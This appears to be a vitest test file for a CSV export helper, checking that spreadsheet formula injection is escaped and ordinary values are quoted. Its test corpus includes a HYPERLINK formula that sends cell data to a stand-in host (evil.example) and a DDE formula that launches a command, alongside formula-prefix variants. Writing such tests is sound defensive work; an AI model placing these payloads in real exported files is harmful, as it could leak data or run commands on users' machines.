import { expect, test } from 'vitest'
import { csvCell, csvLine } from './csv'

/** The injection corpus: each of these is a formula, or begins one, in some spreadsheet. */
const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u00A0@SUM(1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\tnothing but a tab',
  '\rnothing but a return',
]

test.each(formulas)('%j is text in a spreadsheet', (text) => {
  expect(csvCell(text)).toBe(`"'${text.replaceAll('"', '""')}"`)
})

test.each(['', 'Olena', 'a=b', '5', 'user:5', "'", '2026-11-27T20:00:00.000Z', '192.0.2.1'])(
  '%j stays as it is',
  (text) => {
    expect(csvCell(text)).toBe(`"${text}"`)
  },
)

test('a cell holds quotes, commas and line breaks; nothing is an empty one', () => {
  expect(csvLine(['say "no", twice', 'two\r\nlines', null, undefined, 7])).toBe(
    '"say ""no"", twice","two\r\nlines","","","7"\r\n',
  )
})
